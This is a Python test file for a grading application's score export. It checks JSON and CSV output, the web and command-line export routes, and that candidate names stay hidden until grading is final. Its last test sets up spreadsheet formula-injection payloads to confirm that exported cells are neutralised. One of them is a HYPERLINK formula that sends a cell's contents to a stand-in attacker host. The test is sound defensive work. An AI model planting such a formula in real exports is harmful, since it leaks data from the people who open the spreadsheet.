"""Export: every field of auto and final scores, the same in JSON and CSV, web and command."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from app import spreadsheet
from app.cli import main as cli_main
from app.db import get_sessionmaker
from app.reviews import decisions, export
from app.users.models import Role
from tests.web.factories import make_auto_score, make_submission, make_user, score_dict, sign_in

COMMENTS = [
    "The cache key only hashes the messages.",
    "The retry loop wraps the yield.",
    "Usage is recorded after the loop, not in a finally.",
]


def _finalized(session: Session, grader_email: str | None = None) -> tuple[int, str]:
    grader = make_user(session, role=Role.grader, email=grader_email)
    submission = make_submission(session, comments=COMMENTS, candidate_name="Ada Lovelace")
    make_auto_score(
        session,
        submission,
        score_dict(
            red_flags=[
                {"kind": "rewrite", "comment": 1, "evidence": 'rewrite it, with "quotes", commas'}
            ]
        ),
    )
    steps = [
        lambda v: decisions.decide_match(
            session,
            submission.id,
            grader,
            version=v,
            bug="cache-key-ignores-params",
            comment=0,
            verdict="confirmed",
        ),
        lambda v: decisions.decide_match(
            session,
            submission.id,
            grader,
            version=v,
            bug="stream-retry-duplicates",
            comment=1,
            verdict="rejected",
        ),
        lambda v: decisions.decide_match(
            session,
            submission.id,
            grader,
            version=v,
            bug="stream-usage-lost",
            comment=2,
            verdict="added",
        ),
        lambda v: decisions.decide_flag(
            session,
            submission.id,
            grader,
            version=v,
            kind="rewrite",
            comment=1,
            verdict="dismissed",
        ),
        lambda v: decisions.override_dimension(
            session,
            submission.id,
            grader,
            version=v,
            dimension="tool_taste",
            value=100,
            reason="Names the needless layer,\nand says why.",
        ),
        lambda v: decisions.finalize(session, submission.id, grader, version=v),
    ]
    for version, step in enumerate(steps):
        step(version)
    return submission.id, grader.email


def _open(session: Session) -> int:
    submission = make_submission(session, comments=COMMENTS, candidate_name="Secret Name")
    make_auto_score(session, submission)
    return submission.id


def test_export_records_every_field(session: Session) -> None:
    final_id, grader = _finalized(session)
    open_id = _open(session)
    records = {
        r["submission"]: r for r in export.export_records(session, assessment="llm-gateway-client")
    }
    final = records[final_id]
    assert list(final) == list(export.COLUMNS)
    assert final["candidate"] == "Ada Lovelace"
    assert final["status"] == "final"
    assert (final["auto_total"], final["auto_detection"], final["auto_needs_review"]) == (
        61.25,
        50.0,
        True,
    )
    assert (final["final_detection"], final["final_severity"], final["final_tool_taste"]) == (
        75.0,
        100.0,
        100.0,
    )
    assert final["final_total"] == 80.0
    assert final["finalized_by"] == grader and final["graders"] == [grader]
    assert final["finalized_at"] is not None and final["auto_scored_at"] is not None
    assert [(m["bug"], m["comment"], m["source"], m["verdict"]) for m in final["matches"]] == [
        ("cache-key-ignores-params", 0, "auto", "confirmed"),
        ("stream-retry-duplicates", 1, "auto", "rejected"),
        ("stream-usage-lost", 2, "grader", "added"),
    ]
    assert final["matches"][0]["confidence"] == 0.93
    assert final["flags"][0]["verdict"] == "dismissed"
    assert final["overrides"]["tool_taste"]["reason"] == "Names the needless layer,\nand says why."
    blind = records[open_id]
    assert blind["candidate"] is None  # names leave Redline only with a final grade
    assert (blind["status"], blind["final_total"], blind["graders"]) == ("pending", None, [])


def test_json_round_trip(session: Session) -> None:
    _finalized(session)
    _open(session)
    records = export.export_records(session)
    assert json.loads(export.to_json(records)) == records


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_tidy_csv_has_a_row_per_submission_and_a_column_per_bug(session: Session) -> None:
    final_id, grader = _finalized(session)
    open_id = _open(session)
    records = export.export_records(session, assessment="llm-gateway-client")
    rows = {int(r["submission"]): r for r in _csv(export.to_tidy_csv(records))}
    assert len(rows) == len(records)
    final = rows[final_id]
    assert (final["auto_detection"], final["final_detection"], final["final_total"]) == (
        "50.0",
        "75.0",
        "80.0",
    )
    key = "llm-gateway-client/"
    # Confirmed, rejected, added: what the auto-grader found and what the grade counts.
    assert final[f"auto_found:{key}cache-key-ignores-params"] == "yes"
    assert final[f"final_found:{key}cache-key-ignores-params"] == "yes"
    assert final[f"auto_found:{key}stream-retry-duplicates"] == "yes"
    assert final[f"final_found:{key}stream-retry-duplicates"] == "no"
    assert final[f"auto_found:{key}stream-usage-lost"] == "no"
    assert final[f"final_found:{key}stream-usage-lost"] == "yes"
    assert final["graders"] == grader and final["candidate"] == "Ada Lovelace"
    blind = rows[open_id]
    assert blind["candidate"] == "" and blind[f"final_found:{key}cache-key-ignores-params"] == ""
    assert not [c for row in rows.values() for c in row.values() if c.startswith(("[", "{"))]


def test_the_long_csv_has_a_row_per_decision(session: Session) -> None:
    final_id, grader = _finalized(session)
    records = [r for r in export.export_records(session) if r["submission"] == final_id]
    rows = _csv(export.to_decisions_csv(records))
    assert [(r["kind"], r["item"], r["comment"], r["verdict"]) for r in rows] == [
        ("match", "cache-key-ignores-params", "0", "confirmed"),
        ("match", "stream-retry-duplicates", "1", "rejected"),
        ("match", "stream-usage-lost", "2", "added"),
        ("flag", "rewrite", "1", "dismissed"),
        ("override", "tool_taste", "", ""),
        ("finalize", "grade", "", ""),
    ]
    assert rows[4]["value"] == "100.0"
    assert rows[4]["reason"] == "Names the needless layer,\nand says why."
    assert rows[5]["value"] == "80.0" and rows[5]["decided_by"] == grader


def test_export_from_the_web(client: TestClient, session: Session) -> None:
    final_id, _ = _finalized(session)
    grader = make_user(session, role=Role.grader)
    sign_in(client, session, grader)
    page = client.get("/staff/export")
    assert page.status_code == 200 and "/staff/export.csv?assessment=docs-rag" in page.text
    as_json = client.get("/staff/export.json?assessment=llm-gateway-client")
    assert as_json.headers["content-type"] == "application/json"
    assert "attachment" in as_json.headers["content-disposition"]
    as_csv = client.get("/staff/export.csv?assessment=llm-gateway-client")
    assert as_csv.headers["content-type"].startswith("text/csv")
    assert {int(r["submission"]) for r in _csv(as_csv.text)} == {
        r["submission"] for r in as_json.json()
    }
    long_csv = client.get("/staff/export-decisions.csv?assessment=llm-gateway-client")
    assert long_csv.status_code == 200 and long_csv.text.startswith("submission,public_id")
    assert final_id in {r["submission"] for r in as_json.json()}
    assert client.get("/staff/export.json?assessment=docs-rag").json() == [
        r for r in export.export_records(session, assessment="docs-rag")
    ]


@pytest.mark.parametrize("fmt", ["csv", "decisions", "json"])
def test_export_command(
    fmt: str, tmp_path: Path, engine: object, capsys: pytest.CaptureFixture[str]
) -> None:
    with get_sessionmaker().begin() as db:
        final_id, _ = _finalized(db)
    out = tmp_path / f"scores.{fmt}"
    assert (
        cli_main(
            ["export", "--format", fmt, "--assessment", "llm-gateway-client", "--out", str(out)]
        )
        == 0
    )
    text = out.read_bytes().decode("utf-8")  # as written: CSV rows end in CRLF
    with get_sessionmaker()() as db:
        records = export.export_records(db, assessment="llm-gateway-client")
    writers = {"csv": export.to_tidy_csv, "decisions": export.to_decisions_csv}
    assert text == (writers[fmt](records) if fmt in writers else export.to_json(records))
    assert final_id in {r["submission"] for r in records}
    assert cli_main(["export", "--format", fmt, "--assessment", "no-such-slug"]) == 0
    printed = capsys.readouterr().out
    assert printed.strip() in (
        "[]",
        ",".join([*export.FLAT_COLUMNS, "graders"]),
        ",".join(export.DECISION_COLUMNS),
    )


FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@pytest.mark.parametrize("name", FORMULAS)
def test_csv_cells_never_start_a_formula(session: Session, name: str) -> None:
    grader = make_user(session, role=Role.grader)
    submission = make_submission(session, comments=COMMENTS, candidate_name=name)
    make_auto_score(session, submission, score_dict(matches=[], red_flags=[]))
    decision = decisions.finalize(session, submission.id, grader, version=0)
    assert decision is not None
    records = [r for r in export.export_records(session) if r["submission"] == submission.id]
    assert [r["candidate"] for r in records] == [name]
    for text in (export.to_tidy_csv(records), export.to_decisions_csv(records)):
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert spreadsheet.restore(_csv(export.to_tidy_csv(records))[0]["candidate"]) == name
